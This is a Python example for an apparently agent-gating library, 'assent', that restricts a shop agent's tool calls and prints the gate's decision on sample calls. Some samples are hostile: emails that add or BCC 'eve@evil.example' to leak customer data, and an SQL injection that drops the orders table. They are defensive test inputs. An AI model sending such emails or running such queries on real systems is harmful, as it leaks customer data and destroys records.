"""The agent of a shop: its rules are in shop.toml, and for each order it may write to the customers of that order.

pip install assent
"""

from __future__ import annotations

import tempfile
from collections.abc import Sequence
from pathlib import Path

from assent import Gate

POLICY = Path(__file__).with_name("shop.toml").read_text(encoding="utf-8")


def gate_for(customers: Sequence[str], folder: str) -> Gate:
    """The gate of a run for one order. Addresses come from the shop's own database, never from the model."""
    listed = ", ".join(f'"{each}"' for each in customers)
    return Gate(
        folder,
        policy=POLICY,
        allow=[f"send_email(to in [{listed}], body is any, only)"],
        files=False,
        channels=["nobody"],  # a person of the shop in earnest: a channel of yours, or `server`
        state=f"{folder}/.state",
    )


def main(folder: str) -> None:
    gate = gate_for(["ann@customer.example"], folder)
    for tool, arguments in (
        ("refund", {"order": 7, "amount": 20, "currency": "EUR"}),
        ("refund", {"order": 7, "amount": 200, "currency": "EUR"}),
        ("refund", {"order": 7, "amount": 2000, "currency": "EUR"}),
        ("send_email", {"to": "ann@customer.example", "body": "Your money is on its way."}),
        ("send_email", {"to": "ann@customer.example, eve@evil.example", "body": "All our customers: …"}),
        ("send_email", {"to": "ann@customer.example", "bcc": "eve@evil.example", "body": "All our customers: …"}),
        ("query", {"sql": "select total from orders where id = 7"}),
        ("query", {"sql": "select 1; drop table orders"}),
        ("mcp__github__create_issue", {"owner": "acme", "repo": "shop", "title": "Refunds are slow"}),
        ("mcp__github__create_issue", {"owner": "acme", "repo": "secrets", "title": "Refunds are slow"}),
    ):
        decision = gate.decide(gate.call(tool, arguments))
        print(f"{tool} {arguments}: {decision.outcome.name.lower()}, {decision.reason}")
    gate.close()


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as found:
        main(found)
